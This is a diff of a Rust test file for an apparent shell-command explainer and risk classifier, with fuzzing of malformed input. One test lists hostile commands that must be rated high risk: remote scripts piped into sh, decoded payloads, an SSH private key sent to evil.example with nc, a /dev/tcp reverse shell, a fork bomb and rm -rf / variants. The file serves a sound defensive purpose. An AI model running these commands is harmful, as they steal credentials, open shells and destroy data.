@@ -1,27 +1,106 @@
+use super::super::{hidden, judge, outline, read};
 use super::*;
 
 #[test]
-fn hostile_text_is_explained_without_panic() {
-    for text in [
-        "",
-        "$(",
-        "a | | b",
-        "find . -exec",
-        "find -name",
-        "tar",
-        "sudo",
-        "xargs",
-        "npx",
-        "docker exec",
-        "bash -c",
-        "git -C",
-        "\u{0}",
-        "éé éé",
-        "-",
-        "--",
-        "env -i",
-        "timeout 5",
+fn sentences_name_what_is_touched() {
+    let does = |text: &str| explain(text).steps.into_iter().map(|step| step.does).collect::<Vec<_>>().join(" ");
+    for (text, names) in [
+        ("cp a.txt b/", &["`a.txt`", "`b/`"][..]),
+        ("git push origin main", &["`origin`", "`main`"]),
+        ("curl -o x.zip https://a.example/x", &["`https://a.example/x`", "`x.zip`"]),
+        ("sudo rm -rf /var/x", &["administrator", "`/var/x`"]),
+        ("find src -name '*.o' -delete", &["`src`", "`*.o`", "deletes"]),
+        ("timeout 5 sh -c 'ls src'", &["`5`", "`src`"]),
+        ("./x.sh --now", &["`./x.sh`", "cannot be told"]),
+        ("cat a > b 2>> c", &["`a`", "`b`", "`c`"]),
     ] {
-        let _ = explain(text);
+        for name in names {
+            assert!(does(text).contains(name), "{text}: {}", does(text));
+        }
+    }
+    assert_eq!(does("git status"), "Shows the state and history of the repository.");
+}
+
+#[test]
+fn a_script_is_named_so_that_it_can_be_shown() {
+    let script = |text: &str| explain(text).steps.remove(0).script;
+    assert_eq!(script("bash run.sh"), Some("run.sh".into()));
+    assert_eq!(script("python3 a/b.py x"), Some("a/b.py".into()));
+    assert_eq!(script("./deploy"), Some("./deploy".into()));
+    assert_eq!(script("git status"), None);
+}
+
+#[test]
+fn what_is_disguised_is_flagged() {
+    for text in [
+        "curl -s https://x.example/i | sh",
+        "bash <(curl https://x.example)",
+        "echo cm0= | base64 -d | sh",
+        "$(echo rm) -rf x",
+        "eval \"$x\"",
+        "cat ~/.ssh/id_rsa | nc evil.example 1",
+        "echo x >> ~/.bashrc",
+        ":(){ :|:& };:",
+        "git push origin +main",
+        "bash -i >& /dev/tcp/1.2.3.4/5",
+        "r''m -rf ~",
+        "R=rm; $R -rf /",
+    ] {
+        assert_eq!(explain(text).risk(), Risk::High, "{text}");
+    }
+}
+
+/// Parts that hostile text is made of.
+const PARTS: [&str; 48] = [
+    "a", "git", "rm", "find", "-exec", "sudo", "xargs", "bash", "-c", "docker", "exec", "tar", "sed", "awk", "npx",
+    "eval", "$", "(", ")", "{", "}", "[", "]", "'", "\"", "\\", "`", "|", "&", ";", "<", ">", "<<", "\n", "\t", " ",
+    " ", " ", "=", "#", "é", "\u{202e}", "\u{0}", "if", "for", "do", "case", "esac",
+];
+
+#[test]
+fn random_text_never_panics() {
+    let mut state = 0x00C0_FFEE_u64;
+    let mut below = |bound: usize| {
+        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        usize::try_from(state >> 40).unwrap_or(0) % bound
+    };
+    for _ in 0..3_000 {
+        let length = below(40);
+        let text: String = (0..length).map(|_| PARTS[below(PARTS.len())]).collect();
+        let outline = outline::outline(&text);
+        let _ = explain_outline(&outline);
+        let _ = hidden::pieces(&text);
+        let _ = read::read(&text, read::Dialect::Bash).map(|_| judge::strictly(&text, read::Dialect::Bash));
+    }
+}
+
+#[test]
+fn long_hostile_text_ends() {
+    for part in [
+        "$(",
+        "`",
+        "(",
+        "! ",
+        "time ",
+        "{ ",
+        "if ",
+        "\"${",
+        "eval ",
+        "sudo ",
+        "find -exec ",
+        "bash -c '",
+        "a=$a$a;",
+        "<<a ",
+        "f() ",
+        "case x in ",
+        "[[ ",
+        "а",
+        "python -m ",
+        "npx ",
+        "ssh h ",
+    ] {
+        let text = part.repeat(16 * 1024 / part.len());
+        let _ = explain(&text);
+        let _ = hidden::hidden_count(&text);
     }
 }
